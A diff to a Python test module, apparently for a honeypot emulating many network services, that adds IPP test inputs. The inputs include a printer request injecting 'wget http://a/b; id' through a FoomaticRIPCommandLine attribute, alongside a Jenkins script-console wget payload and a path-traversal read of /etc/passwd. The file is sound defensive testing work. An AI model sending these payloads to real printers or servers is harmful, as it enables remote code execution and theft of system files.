@@ -84,6 +84,11 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"de\r\n",
         b"4 SELECT INBOX\r\n", b"5 FETCH 1:* (FLAGS BODY[])\r\n", b"6 IDLE\r\n",
     ),
+    "ipp": (
+        b"POST /ipp HTTP/1.1\r\nContent-Type: application/ipp\r\nContent-Length: 66\r\n\r\n",
+        b"\1\1\0\2\0\0\0\1\1\x47\0\1a",
+        b"\0\1b\3FoomaticRIPCommandLine: \"", b'wget http://a/b; id"    ',
+    ),
     "jenkins": (
         b"POST /scriptText HTTP/1.1\r\nHost: a\r\nContent-Length: 36\r\n\r\n", b"script='wget",
         b"%20http://a/b'.execute()", b"GET /script HTTP/1.1\r\n\r\n",
@@ -218,13 +223,15 @@ WORDS = [
     b"\x01\x01\0\x1c\0\0\1\0" + "select 1 1".encode("utf-16-le"), b"\0\0\0\x08\x04\xd2\x16\x2f",
     b'PUT /a/b/c HTTP/1.1\r\nContent-Length: 9\r\n\r\n{"a":"b"}',
     b"GET /_plugin/head/../../etc/passwd HTTP/1.1\r\n\r\n",
-    b"CONNECT a:25 HTTP/1.1\r\nProxy-Authorization: Basic YTpi\r\n\r\n", b"\5\2\0\2", b"\1\1a\1b",
+    b"POST / HTTP/1.1\r\nContent-Type: application/ipp\r\nContent-Length: 9\r\n\r\n\1\1\0\x0b\0\0\0\1\3",
+    b"0 3 http://192.0.2.9/printers/a", b"CONNECT a:25 HTTP/1.1\r\nProxy-Authorization: Basic YTpi\r\n\r\n",
+    b"\5\2\0\2", b"\1\1a\1b",
     b"\5\1\0\3\1a\0\x50", b"Q\0\0\0\x0dselect 1\0", b"\x07\0\0\0\x03SELECT", b"\x09\0\0\0\x03select 1",
 ]  # fmt: skip
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
 NAMES = (*ROOMS, FRONT)
-_UDP = ("catchall", "dns", "memcached", "ntp", "sip", "snmp", "tftp", "upnp")
+_UDP = ("catchall", "dns", "ipp", "memcached", "ntp", "sip", "snmp", "tftp", "upnp")
 SERVED = [(name, "tcp") for name in NAMES] + [(name, "udp") for name in _UDP]
 names = pytest.mark.parametrize("name", NAMES)
 bounded = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
